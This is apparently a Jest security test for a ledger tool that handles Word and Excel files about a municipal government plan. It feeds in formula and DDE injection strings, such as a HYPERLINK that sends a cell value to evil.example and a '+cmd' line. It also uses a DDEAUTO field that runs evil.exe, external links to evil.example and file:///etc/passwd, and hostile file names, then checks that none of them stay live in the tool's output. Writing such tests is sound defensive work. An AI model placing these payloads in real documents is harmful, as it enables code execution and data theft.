import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import { cellAddress } from '../../src/base/raw-sheet';
import { fillForm } from '../../src/app/demo/fill-form';
import { FileWorkbookHost } from '../../src/hosts/file/file-host';
import { readWorkbook } from '../../src/hosts/file/reading/xlsx/read-xlsx';
import { createWorkbookFiles } from '../../src/hosts/file/workbook-files';
import { formWorkbook } from '../../src/sheets/tabs/form';
import { day, period, report } from '../ledger/builders';
import { paragraph, run, wordParts } from '../hosts/file/document/word-file';
import { partNameOf } from '../guest/package-edits';
import { lookIn } from '../support/ledger-in';
import { openXmlErrors } from '../support/open-xml';
import { unzipped, zipped } from '../support/unzipped';
import { CommandBench } from './run';

jest.setTimeout(180_000);

/** What somebody hopes a program will run, fetch or choke on; each names `evil`. */
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"详见")',
  '+cmd|"/c evil"!A1',
  '-2+3+evil()',
  '@SUM(evil())',
  '\t=evil()',
  '\r\n=evil()',
  '＝evil()',
  "'=evil()",
  '<script src="//evil.example"></script>',
  ']]><f>evil()</f>&evil;<!ENTITY',
  '_x003D_evil()',
  '"&evil()&"',
  '{HYPERLINK evil} \\* MERGEFORMAT',
  '\u202Eevil\u0000\u0001\uFFFE\uD800',
] as const;

/** In XML nothing but these can stand, and a plan is typed into XML. */
const inXml = (text: string) =>
  text.replace(/[&<>]/g, (sign) => `&#${sign.charCodeAt(0)};`).replace(/[\u0000-\u0008\uFFFE\uD800\r]/g, '');

const UNITS = ['市编办', '市"&evil()&"局', '市=evil()办', '市司法局'];

function plan(): Uint8Array {
  const measures = ATTACKS.map(
    (attack, at) =>
      `(${at + 1})建立第${at + 1}项制度${inXml(attack).trim()}。(牵头单位:${inXml(UNITS[at % UNITS.length] ?? '')}。2016年底完成)`,
  );
  const lines = [
    '=evil()市法治政府建设实施方案',
    '(2016—2020年)',
    '二、工作措施',
    '(一)@evil()依法履职',
    '1.-evil()改革',
  ];
  const field = `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\evil.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('(二)推进')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
  const body = [
    ...lines.map((line) => paragraph(inXml(line))),
    ...measures.map((line) => paragraph(line)),
    paragraph(field),
    paragraph(
      `<w:hyperlink r:id="rId90">${run('(15)公布清单。(牵头单位:市编办。2016年底完成)')}</w:hyperlink>`,
    ),
    '<w:altChunk r:id="rId91"/>',
    paragraph('<w:r><w:pict><v:imagedata r:id="rId92" r:href="rId92"/></w:pict></w:r>'),
  ].join('');
  const parts = wordParts({ body });
  const outside = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
  const relations = [
    outside('rId90', 'hyperlink', 'http://evil.example/'),
    outside('rId91', 'aFChunk', 'file:///etc/passwd'),
    outside('rId92', 'image', 'http://evil.example/pixel.png'),
    outside('rId93', 'attachedTemplate', 'http://evil.example/evil.dotm'),
  ].join('');
  const name = 'word/_rels/document.xml.rels';
  return zipped({
    ...parts,
    [name]: (parts[name] ?? '').replace('</Relationships>', `${relations}</Relationships>`),
  });
}

/** Elements whose text a program works out or follows. */
const RUN =
  /(?:^|:)(?:f|formula|formula1|formula2|definedName|calculatedColumnFormula|instrText|altChunk|script|iframe)$/;
/** Attributes that are worked out or followed. */
const FOLLOWED = /(?:^|:)(?:instr|Target|location|ref|sqref)$/;

/** What of an Office file a program would run or fetch that is not the product's own; its parts are sound XML. */
function dangersIn(bytes: Uint8Array): readonly string[] {
  const packed = unzipSync(bytes);
  return Object.entries(unzipped(bytes)).flatMap(([part, text]) => {
    const inside = packed[part];
    if (part.endsWith('.xlsx') && inside !== undefined) return dangersIn(inside);
    if (!/\.(?:xml|rels|vml)$/.test(part)) return [part];
    const found: string[] = [];
    const path: string[] = [];
    const parser = new SaxesParser({});
    parser.on('error', (error) => found.push(`${part}: ${error.message}`));
    parser.on('opentag', ({ name, attributes }) => {
      path.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        const isOutside = key === 'TargetMode' && String(value) === 'External';
        if (isOutside || (FOLLOWED.test(key) && String(value).includes('evil')))
          found.push(`${part}: ${key}=${String(value)}`);
      }
    });
    parser.on('text', (words) => {
      if (RUN.test(path.at(-1) ?? '') && words.includes('evil'))
        found.push(`${part}: ${path.at(-1)} ${words}`);
    });
    parser.on('closetag', () => path.pop());
    parser.write(text).close();
    return found;
  });
}

/** Texts that would be formulas as soon as somebody edits their cell: neither of the text format nor quoted. */
function almostFormulas(bytes: Uint8Array): readonly string[] {
  const parts = unzipped(bytes);
  const [formats = ''] = /<cellXfs\b.*?<\/cellXfs>/s.exec(parts['xl/styles.xml'] ?? '') ?? [];
  const quoted = [...formats.matchAll(/<xf\b[^>]*>/g)].map(([format]) => / quotePrefix="1"/.test(format));
  return readWorkbook(bytes, 'L.xlsx').sheets.flatMap(({ name, rows }) => {
    const sheet = parts[partNameOf(parts, name)] ?? '';
    const styles = new Map(
      [...sheet.matchAll(/<c\b[^>]*>/g)].map(([cell]) => [
        / r="(\w+)"/.exec(cell)?.[1],
        Number(/ s="(\d+)"/.exec(cell)?.[1]),
      ]),
    );
    return rows.flatMap(({ row, cells }) =>
      cells.flatMap(({ column, value, formula, format }) => {
        if (typeof value !== 'string' || !/^[=+\-@\t\r]/.test(value) || formula !== undefined) return [];
        const address = cellAddress(row, column);
        return format === '@' || quoted[styles.get(address) ?? 0] ? [] : [`${name}!${address} ${value}`];
      }),
    );
  });
}

let bench: CommandBench;

beforeAll(async () => {
  bench = await CommandBench.open();
});

afterAll(() => bench.close());

async function ran(...args: readonly string[]): Promise<void> {
  const { code, err } = await bench.ledger(...args);
  if (code > 1) throw new Error(`${args.join(' ')}: ${err}`);
}

/** A form of each unit with an attack in every cell that takes words, under names somebody would rather not have. */
async function sendReturns(): Promise<void> {
  const host = await FileWorkbookHost.open(new Uint8Array(await readFile(bench.path('L.xlsx'))), 'L.xlsx');
  const { ledger } = await lookIn(host);
  const offices = ledger.directory.units.map(({ name }) => name);
  await mkdir(bench.path('inbox'));
  let turn = 0;
  const next = () => ATTACKS[(turn += 1) % ATTACKS.length] ?? '';
  for (const [at, office] of offices.entries()) {
    const reports = new Map(
      ledger.plan.measures.map(({ no }) => [
        no,
        report({
          status: no % 3 === 0 ? null : 'inProgress',
          percent: 40,
          progress: `已开展工作${next()}`,
          problems: next(),
          nextSteps: next(),
          evidence: next(),
          remark: next(),
        }),
      ]),
    );
    const form = fillForm(formWorkbook(ledger, office, period('2017Q3')), reports, {
      preparedBy: next(),
      reviewedBy: next(),
      phone: next(),
      preparedOn: day('2017-09-29'),
    });
    const name = ['=evil().xlsx', '..＼evil%00.xlsx', "-evil'<b>.xlsx", '‮evil.xlsx'][at % 4] ?? '';
    await writeFile(bench.path('inbox', name), await createWorkbookFiles().write(form));
  }
}

test('nothing of what a plan or a unit writes is run, fetched or followed by any file that is made of it', async () => {
  await writeFile(bench.path('plan.docx'), plan());
  await ran('init', '--plan', 'plan.docx', '--out', 'L.xlsx', '--as-of', '2017-09-30', '--period', '2017Q3');
  await ran('forms', 'L.xlsx', '--period', '2017Q3', '--out', 'forms');
  await sendReturns();
  await ran('validate', 'inbox', '--ledger', 'L.xlsx', '--marked', 'marked');
  await ran('collect', 'L.xlsx', 'inbox', '--out', 'L.xlsx');
  const out = ['--out', 'L.xlsx'] as const;
  await ran('verify', 'L.xlsx', '--measure', '1', '--as', 'sent-back', '--reason', '=evil()', ...out);
  await ran('summary', 'L.xlsx', '--as-of', '2018-03-31', ...out);
  const office = ['--office', '=evil()办', '--word', '@evil()', '--contact', '+evil()', '--phone', '-evil()'];
  await ran('letters', 'L.xlsx', '--out', 'letters', '--circular', '--out-ledger', 'L.xlsx', ...office);
  await ran('report', 'L.xlsx', '--year', '2017', '--out', 'report.docx');
  for (const command of [
    ['reminders', 'L.xlsx', '--period', '2017Q3'],
    ['scores', 'L.xlsx'],
    ['summary', 'L.xlsx'],
  ])
    expect((await bench.ledger(...command, '--json')).json).toBeDefined();

  const made = ['L.xlsx', 'report.docx'];
  for (const folder of ['forms', 'marked', 'letters'])
    made.push(...(await readdir(bench.path(folder))).map((name) => join(folder, name)));
  expect(made.length).toBeGreaterThan(12);
  const dangers = [];
  let said = 0;
  for (const name of made) {
    expect(name).not.toMatch(/[\p{Cc}\p{Cf}<>"|?*\\]|\.\./u);
    const bytes = new Uint8Array(await readFile(bench.path(name)));
    dangers.push(...dangersIn(bytes).map((danger) => `${name} ${danger}`));
    said += Object.values(unzipped(bytes)).filter((part) => part.includes('evil')).length;
  }
  expect(dangers).toEqual([]);
  // The words themselves are there, as words.
  expect(said).toBeGreaterThanOrEqual(made.length);
  expect(almostFormulas(new Uint8Array(await readFile(bench.path('L.xlsx'))))).toEqual([]);
  expect(await openXmlErrors(new Uint8Array(await readFile(bench.path('L.xlsx'))))).toEqual([]);
});
